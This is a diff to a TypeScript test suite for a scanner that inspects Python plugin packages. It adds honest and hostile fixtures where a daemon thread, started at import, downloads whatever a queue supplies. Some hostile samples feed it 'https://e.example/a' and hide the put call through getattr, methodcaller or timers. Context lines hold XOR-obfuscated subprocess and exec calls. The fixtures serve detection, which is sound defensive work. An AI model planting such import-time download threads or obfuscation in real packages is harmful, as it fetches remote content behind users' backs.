@@ -29,6 +29,9 @@ const DOWNLOAD = [
   '    for part in requests.get("https://e.example/a", stream=True).iter_content(9): file.write(part)',
 ];
 const script = (source: string): Files => ({ '__init__.py': 'WEB_DIRECTORY = "./web"\n', 'web/a.js': source });
+/** A thread that is started at import, and downloads what `wait` answers. */
+const worker = (wait: string, after = ''): string =>
+  `import queue, requests, threading\ntasks = queue.Queue()\ndef work():\n    while True:\n        ${wait}\n        requests.get(task)\nthreading.Thread(target=work, daemon=True).start()\n${after}\n`;
 const COPY = 'import os, types\ndef f():\n    run("a")\ndef copy(f):\n    return ';
 
 describe('the checks accept the honest use, and hold the hostile one, of', () => {
@@ -147,6 +150,24 @@ describe('the checks accept the honest use, and hold the hostile one, of', () =>
           inNode('import subprocess', 'subprocess.run(str(x ^ 32), shell=True)'),
           inNode('import subprocess', 'subprocess.run(chr(2^96) + chr(2^98), shell=True)'),
           inNode('', 'exec(bytes([2^96, 10^98]))'),
+        ],
+      },
+    ],
+    [
+      'threads that wait for a queue',
+      {
+        honest: inNode(worker('task = tasks.get()'), 'tasks.put(x)'),
+        hostile: [
+          worker('task = tasks.get()', 'tasks.put("https://e.example/a")'),
+          worker('task = tasks.get()', 'def fill(): tasks.put_nowait("a")\nthreading.Timer(9, fill).start()'),
+          worker('task = tasks.get()', 'getattr(tasks, "pu" + "t")("a")'),
+          worker('task = tasks.get()', 'import operator\noperator.methodcaller("put", "a")(tasks)'),
+          worker('task = tasks.get()', 'tasks.queue.append("a")'),
+          worker('task = tasks.get(timeout=9)'),
+          worker('task = tasks.get_nowait()'),
+          worker('if x: task = tasks.get()'),
+          worker('try: task = tasks.get()\n        except Exception: pass'),
+          worker('lambda: tasks.get()'),
         ],
       },
     ],
